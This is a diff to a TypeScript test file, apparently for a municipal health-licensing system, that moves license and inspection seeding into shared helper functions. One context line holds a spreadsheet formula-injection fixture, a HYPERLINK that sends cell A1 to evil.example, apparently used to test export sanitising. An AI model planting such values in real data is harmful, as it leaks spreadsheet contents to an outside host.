@@ -10,6 +10,7 @@ import { sql } from 'drizzle-orm';
 import { riyadhDate } from '../domain/calendar';
 import { startTestEnv, waitFor, type TestEnv } from './support/env';
 import { call, crNumber, healthApplication } from './support/fixtures';
+import { seedInspection, seedLicense, type SeededInspection } from './support/inspections';
 import { startLicense, timeline, waitForLicense } from './support/licenses';
 
 let env: TestEnv;
@@ -29,24 +30,7 @@ const FORMULA_DISTRICT = '=HYPERLINK("http://evil.example/?"&A1,"حي")';
 const at = (riyadh: string) => new Date(`${riyadh}:00+03:00`);
 const DAY_MS = 86_400_000;
 
-interface SeedLicense {
-  n: number;
-  /** The case's district; none: imported from before Tarkhees, with `importedDistrict` (or none) on the license. */
-  caseDistrict?: string;
-  importedDistrict?: string | null;
-}
-interface SeedTask {
-  license: number;
-  seq: number;
-  status: 'open' | 'claimed' | 'completed' | 'cancelled';
-  created: Date;
-  due: Date;
-  decided?: Date;
-  /** The result's timeline row; absent, none (open or withdrawn). */
-  result?: { event: 'inspection_passed' | 'inspection_violations' | 'suspended'; violations: { code: string; severity: string }[] };
-}
-
-const LICENSES: SeedLicense[] = [
+const LICENSES: { n: number; caseDistrict?: string; importedDistrict?: string | null }[] = [
   { n: 1, caseDistrict: 'Al-Mubarraz' },
   { n: 2, caseDistrict: 'Al-Hofuf' },
   { n: 3, importedDistrict: 'Al-Hofuf' },
@@ -56,7 +40,7 @@ const LICENSES: SeedLicense[] = [
 const number = (n: number) => `INS-2025-${String(n).padStart(6, '0')}`;
 
 /** May 2025 in Riyadh, and around it. */
-const TASKS: SeedTask[] = [
+const TASKS: (Omit<SeededInspection, 'licenseNumber'> & { license: number })[] = [
   // Al-Mubarraz: a pass on time; violations to fix recorded late (after a claim, whose row names the task too); one open and overdue.
   { license: 1, seq: 1, status: 'completed', created: at('2025-05-02T09:00'), due: at('2025-05-09T09:00'), decided: at('2025-05-05T11:00'), result: { event: 'inspection_passed', violations: [] } },
   {
@@ -80,41 +64,11 @@ const TASKS: SeedTask[] = [
 ];
 
 async function seed() {
-  for (const l of LICENSES) {
-    const app = l.caseDistrict === undefined ? null : `TRK-20250301-INS00${l.n}`;
-    if (app) {
-      await env.db.db.execute(sql`
-        insert into applications (id, status, stage, license_kind, office_id, applicant_national_id, applicant_name, applicant_mobile,
-          cr_number, trade_name, isic_code, district, data, submitted_at, updated_at, closed_at)
-        values (${app}, 'issued', 'closed', 'health', ${env.offices.a}, '1000000008', 'Seeded', '+966500000000', '2250000000',
-          ${`Cafe ${l.n}`}, '563001', ${l.caseDistrict}, '{}'::jsonb, now(), now(), now())`);
-    }
-    await env.db.db.execute(sql`
-      insert into licenses (number, application_id, license_kind, cr_number, trade_name, holder_national_id, isic_code, issued_on, expires_on, status, district)
-      values (${number(l.n)}, ${app}, 'health', '2250000000', ${`Cafe ${l.n}`}, '1000000008', '563001', '2025-01-01', '2026-12-31', 'active', ${l.importedDistrict ?? null})`);
-  }
-  for (const t of TASKS) {
-    const id = `${number(t.license)}:inspection:${t.seq}`;
-    await env.db.db.execute(sql`
-      insert into tasks (id, application_id, license_number, kind, required_role, status, assignee, round, created_at, due_at, decided_at, decision,
-        license_kind, trade_name, cr_number, seq)
-      values (${id}, null, ${number(t.license)}, 'inspection', 'municipal_inspector', ${t.status}, ${t.status === 'open' ? null : 'municipal-inspector-1'}, 1,
-        ${t.created}, ${t.due}, ${t.decided ?? null}, ${t.result ? (t.result.violations.length ? 'violations' : 'pass') : null}, 'health', 'Cafe', '2250000000', ${t.seq})`);
-    await env.db.db.execute(sql`insert into license_events (license_number, seq, event, status, details, at)
-      values (${number(t.license)}, ${t.seq * 10}, 'inspection_due', 'active', ${JSON.stringify({ taskId: id })}::jsonb, ${t.created})`);
-    if (t.status !== 'open') {
-      await env.db.db.execute(sql`insert into license_events (license_number, seq, event, status, actor, details, at)
-        values (${number(t.license)}, ${t.seq * 10 + 1}, 'task_claimed', 'active', 'municipal-inspector-1', ${JSON.stringify({ taskId: id, to: 'municipal-inspector-1' })}::jsonb, ${t.created})`);
-    }
-    if (t.result) {
-      await env.db.db.execute(sql`insert into license_events (license_number, seq, event, status, actor, details, at)
-        values (${number(t.license)}, ${t.seq * 10 + 2}, ${t.result.event}, ${t.result.event === 'suspended' ? 'suspended' : 'active'}, 'municipal-inspector-1',
-          ${JSON.stringify({ taskId: id, violations: t.result.violations })}::jsonb, ${t.decided!})`);
-    }
-  }
+  for (const { n, ...l } of LICENSES) await seedLicense(env, { number: number(n), ...l });
+  for (const { license, ...t } of TASKS) await seedInspection(env, { licenseNumber: number(license), ...t });
   // A review decided in May is no inspection.
   await env.db.db.execute(sql`insert into tasks (id, application_id, kind, required_role, office_id, status, round, created_at, due_at, decided_at, decision, license_kind, trade_name, cr_number, seq)
-    values ('TRK-20250301-INS001:health:1', 'TRK-20250301-INS001', 'health_review', 'health_specialist', ${env.offices.a}, 'completed', 1,
+    values ('TRK-20250301-000001:health:1', 'TRK-20250301-000001', 'health_review', 'health_specialist', ${env.offices.a}, 'completed', 1,
       ${at('2025-05-02T09:00')}, ${at('2025-05-03T09:00')}, ${at('2025-05-02T10:00')}, 'approve', 'health', 'Cafe 1', '2250000000', 1)`);
 }
 
